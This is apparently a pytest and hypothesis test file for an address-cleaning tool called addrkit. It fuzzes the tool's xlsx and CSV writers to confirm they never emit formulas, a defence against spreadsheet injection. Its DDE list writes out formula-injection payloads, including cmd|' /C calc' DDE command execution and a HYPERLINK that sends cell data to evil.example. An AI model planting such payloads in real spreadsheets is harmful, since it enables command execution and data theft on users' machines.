"""No text from data ever becomes a formula in any output addrkit writes.

Every writer is fuzzed with text starting = + - @ tab CR and DDE payloads, and its output
is read back: xlsx cells (in-memory writer, streaming writer, change log, output sheets)
must hold the exact text as a string, never a formula; CSV cells must carry the OWASP
leading apostrophe so a spreadsheet opening the CSV shows text.
"""

from __future__ import annotations

import csv
import datetime as dt
import zipfile

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from addrkit.address import IssueCode, Status, parse_address
from addrkit.cli import main
from addrkit.workbook.layout import cell_value
from addrkit.workbook.run_file import run_file

from .books import make_book

DDE = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=WEBSERVICE(\"http://x\")",
    "=IMPORTXML(CONCAT(\"http://x/?\", A1), \"//a\")",
]
_LEAD = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "=cmd|' /C calc'!A0", ""])
_BODY = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc")),  # a workbook holds no controls
    max_size=40,
)
PAYLOADS = st.one_of(st.sampled_from(DDE), st.builds(lambda a, b: a + b, _LEAD, _BODY))
FUZZ = settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def _formula_cells(path) -> list[str]:
    """Every cell the file stores as a formula (read from the XML, not through openpyxl)."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                found += [name] * xml.count("<f>") + [name] * xml.count("<f ")
    return found


def _book_with(tmp_path, texts: list[str], name: str):
    rows = [[f"C{i}", t, "13812345678", t, t] for i, t in enumerate(texts, 1)]
    return make_book(tmp_path / name, rows=rows)


def _strings(path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    out = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    out.add(c.value)
    return out


@pytest.mark.parametrize("stream_rows", [None, 0])
@FUZZ
@given(texts=st.lists(PAYLOADS, min_size=1, max_size=6))
def test_xlsx_writers_never_write_a_formula(tmp_path_factory, stream_rows, texts):
    tmp_path = tmp_path_factory.mktemp("inj")
    path = _book_with(tmp_path, texts, "b.xlsx")
    kwargs = {} if stream_rows is None else {"stream_rows": stream_rows}
    ops = ["clean", "summary", "dedupe"] if stream_rows is None else ["clean", "summary"]
    run_file(ops, path, now=lambda: dt.datetime(2025, 1, 1), user="u", **kwargs)
    assert _formula_cells(path) == []
    strings = _strings(path)
    for text in texts:
        kept = cell_value(text)
        if kept is not None and kept.strip():
            assert kept in strings  # the customer's own text, exactly, as text


@FUZZ
@given(texts=st.lists(PAYLOADS, min_size=1, max_size=6))
def test_merge_edits_and_log_never_write_a_formula(tmp_path_factory, texts):
    tmp_path = tmp_path_factory.mktemp("merge")
    # Two copies of each customer: merge fills gaps from the duplicate, the log records it.
    rows = []
    for i, t in enumerate(texts, 1):
        rows.append([f"C{i}a", f"公司{i}", "13812345678", "浙江省杭州市西湖区文三路90号", None])
        rows.append([f"C{i}b", f"公司{i}", "13812345678", "浙江省杭州市西湖区文三路90号", t])
    path = make_book(tmp_path / "m.xlsx", rows=rows)
    run_file(["dedupe"], path)
    run_file(["merge"], path)
    assert _formula_cells(path) == []
    _strings(path)


def test_share_copy_never_turns_text_into_a_formula(tmp_path):
    path = _book_with(tmp_path, DDE, "s.xlsx")
    result = run_file(["share"], path)
    assert _formula_cells(result.path) == []
    assert cell_value(DDE[0]) in _strings(result.path)


@FUZZ
@given(texts=st.lists(PAYLOADS, min_size=1, max_size=5))
def test_csv_output_cells_cannot_start_a_formula(tmp_path_factory, texts):
    tmp_path = tmp_path_factory.mktemp("csv")
    src, out = tmp_path / "in.csv", tmp_path / "out.csv"
    with open(src, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["编号", "客户名称", "电话", "地址"])
        for i, t in enumerate(texts, 1):
            writer.writerow([f"C{i}", t or "x", "13812345678", t or "杭州"])
    assert main(["dedupe", str(src), str(out)]) == 0
    with open(out, encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r" or _is_number(cell), cell
    with open(src, encoding="utf-8", newline="") as fh:
        originals = [c for row in csv.reader(fh) for c in row]
    for original in originals:  # nothing lost: the text, behind an apostrophe when needed
        assert original in cells or "'" + original in cells


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", DDE[:5] + ['=HYPERLINK("http://x","浙江省杭州市西湖区文三路90号")'])
def test_formula_text_is_its_own_issue_not_an_address(text):
    a = parse_address(text)
    assert IssueCode.FORMULA.value in a.issue_codes
    assert a.status is Status.ERROR
    assert a.province is None and a.normalized is None


@pytest.mark.parametrize(
    "text", ["=浙江省杭州市西湖区文三路90号", "-浙江省杭州市西湖区文三路90号", "+86 浙江省杭州市西湖区"]
)
def test_address_with_a_stray_sign_is_still_read(text):
    a = parse_address(text)
    assert IssueCode.FORMULA.value not in a.issue_codes
    assert a.province == "浙江省"
